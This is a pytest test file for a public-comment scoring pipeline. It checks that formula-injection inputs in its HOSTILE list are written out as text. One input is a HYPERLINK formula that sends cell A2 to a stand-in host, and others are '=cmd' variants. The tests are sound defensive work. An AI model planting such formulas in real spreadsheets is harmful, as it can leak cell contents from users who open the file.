"""Hostile tables (issue #13): formulas never reach a workbook as formulas nor a CSV unescaped, input columns are
never overwritten, byte order marks decide the encoding, blank lines are kept and flagged."""
from __future__ import annotations

import codecs
import csv
import json

import openpyxl
import pandas as pd
import pytest

from pipeline.cells import csv_cell, csv_uncell, escape_frame, unescape_frame
from pipeline.cli import main
from pipeline.ingest.tables import read_table
from pipeline.review import SHEET

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A2,"click")', "=1+1", "+1+2", "-2+3", "@SUM(A1)", "\t=cmd",
           "\r=cmd", "'=already quoted"]


def _formulas(path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f" and not str(cell.value).startswith("=IF(")]  # the review sheet's own lookups


@pytest.mark.parametrize("value, written", [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
                                            ("\t=x", "'\t=x"), ("\r=x", "'\r=x"), ("'=x", "''=x"),
                                            ("'plain", "'plain"), ("plain", "plain"), ("", ""), (3.5, 3.5)])
def test_csv_cell_escapes_what_a_spreadsheet_evaluates_and_reads_back(value, written):
    assert csv_cell(value) == written
    assert csv_uncell(written) == value


def test_escape_frame_covers_headings_and_leaves_numbers():
    frame = pd.DataFrame({"=h": ["=a", "b"], "n": [-1.0, 2.0]})
    escaped = escape_frame(frame)
    assert list(escaped.columns) == ["'=h", "n"] and escaped["'=h"].tolist() == ["'=a", "b"]
    assert escaped["n"].tolist() == [-1.0, 2.0]
    assert unescape_frame(escaped).equals(frame)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".jsonl"])
def test_score_output_holds_formulas_as_text(tmp_path, model_dir, suffix):
    source, out = tmp_path / "in.csv", tmp_path / f"out{suffix}"
    pd.DataFrame({"opinion": HOSTILE}).to_csv(source, index=False, quoting=csv.QUOTE_ALL)
    expected = read_table(source)["opinion"].tolist()
    assert expected == HOSTILE[:-1] + ["=already quoted"]  # a CSV's '= is the escape Excel would have written
    assert main(["score", str(source), "--model", str(model_dir), "--out", str(out)]) == 0
    if suffix == ".xlsx":
        assert _formulas(out) == []
        back = pd.read_excel(out, dtype=str, keep_default_na=False)["opinion"].tolist()
    elif suffix == ".jsonl":  # raw: what programs read
        back = [json.loads(line)["opinion"] for line in out.read_text(encoding="utf-8").splitlines()]
    else:
        raw = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")["opinion"].tolist()
        assert all(cell.startswith("'") for cell in raw)  # what Excel sees: text
        back = read_table(out)["opinion"].tolist()
    assert back == expected


def test_review_sheet_and_report_hold_formulas_as_text(tmp_path, model_dir):
    source, scored = tmp_path / "in.csv", tmp_path / "x.scored.csv"
    pd.DataFrame({"opinion": HOSTILE}).to_csv(source, index=False, quoting=csv.QUOTE_ALL)
    assert main(["score", str(source), "--model", str(model_dir), "--out", str(scored)]) == 0
    sheet = tmp_path / "review.xlsx"
    assert main(["review-sheet", str(scored), "--out", str(sheet)]) == 0
    assert main(["report", str(scored), "--out", str(tmp_path / "report"), "--model", str(model_dir)]) == 0
    workbook = tmp_path / "report" / "report.xlsx"
    assert _formulas(sheet) == [] and _formulas(workbook) == []
    review = pd.read_excel(sheet, sheet_name=SHEET, dtype=str, keep_default_na=False)
    assert sorted(review["意見"]) == sorted(read_table(source)["opinion"])
    texts = [c.value for s in openpyxl.load_workbook(workbook) for row in s.iter_rows() for c in row]
    assert "\t=cmd" in texts and "=cmd" not in texts  # the report kept the tab instead of stripping it to a formula


@pytest.mark.parametrize("kept", [{"pred_theme": "input_pred_theme"}, {"needs_review": "input_needs_review"},
                                  {"evidence": "input_evidence"},
                                  {"pred_theme": "input_input_pred_theme", "input_pred_theme": "input_pred_theme"}])
@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_input_columns_the_output_uses_are_kept_under_a_prefix(tmp_path, model_dir, kept, suffix):
    source, out = tmp_path / "in.csv", tmp_path / f"out{suffix}"
    data = {"opinion": ["高齢者にも使える窓口を残してほしい"], **{c: [f"mine-{c}"] for c in kept}}
    pd.DataFrame(data).to_csv(source, index=False)
    assert main(["score", str(source), "--model", str(model_dir), "--out", str(out)]) == 0
    scored = read_table(out) if suffix == ".csv" else pd.read_json(out, lines=True, dtype=False)
    assert len(set(scored.columns)) == len(scored.columns)
    for column, now in kept.items():
        assert scored.at[0, now] == f"mine-{column}"
    assert scored.at[0, "pred_theme"] != "mine-pred_theme"


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be", "utf-8"])
@pytest.mark.parametrize("suffix", [".txt", ".csv"])
def test_a_byte_order_mark_decides_the_encoding(tmp_path, model_dir, codec, suffix):
    bom = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE, "utf-32-le": codecs.BOM_UTF32_LE,
           "utf-32-be": codecs.BOM_UTF32_BE, "utf-8": codecs.BOM_UTF8}[codec]
    lines = ["please keep paper forms", "紙の申請書も残してください"]
    source = tmp_path / f"in{suffix}"
    source.write_bytes(bom + (("opinion\n" if suffix == ".csv" else "") + "\n".join(lines) + "\n").encode(codec))
    assert read_table(source).iloc[:, 0].tolist() == lines
    out = tmp_path / "out.csv"
    assert main(["score", str(source), "--model", str(model_dir), "--out", str(out)]) == 0
    assert read_table(out).iloc[:, 0].tolist() == lines


@pytest.mark.parametrize("text, expected", [
    ("opinion\nA\n\n\nB\n", ["A", "", "", "B"]),
    ("opinion,response\nA,x\n\nB,y\n", ["A", "", "B"]),
    ("opinion\n" + "\n" * 1000, [""] * 1000),
])
def test_blank_lines_are_kept_and_flagged(tmp_path, model_dir, capsys, text, expected):
    source, out = tmp_path / "in.csv", tmp_path / "out.csv"
    source.write_text(text, encoding="utf-8")
    assert main(["score", str(source), "--model", str(model_dir), "--out", str(out)]) == 0
    scored = read_table(out)
    assert scored["opinion"].tolist() == expected
    assert scored["needs_review"][scored["opinion"] == ""].eq("True").all()
    assert f"scored {len(expected)} of {len(expected)} rows" in capsys.readouterr().err


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_repeated_headings_are_reported(tmp_path, capsys, suffix):
    source = tmp_path / f"in{suffix}"
    if suffix == ".csv":
        source.write_text("opinion,opinion\nA,B\n", encoding="utf-8")
    else:
        book = openpyxl.Workbook()
        book.active.append(["opinion", "opinion"])
        book.active.append(["A", "B"])
        book.save(source)
    assert list(read_table(source).columns) == ["opinion", "opinion.1"]
    assert "repeated column heading(s) renamed: opinion.1" in capsys.readouterr().err


@pytest.mark.parametrize("codec", ["utf-16", "utf-32"])
def test_an_ingested_document_with_a_byte_order_mark_is_sniffed_and_read(tmp_path, codec):
    from pipeline.ingest import read_document

    source = tmp_path / "doc.txt"
    source.write_text("1\t意見等の提出者数\t3人\nNo.\t意見の概要\t市の考え方\n1\t窓口を残してほしい\t残します\n", encoding=codec)
    records = read_document(source).records
    assert records["opinion"].tolist() == ["窓口を残してほしい"] and records["response"].tolist() == ["残します"]
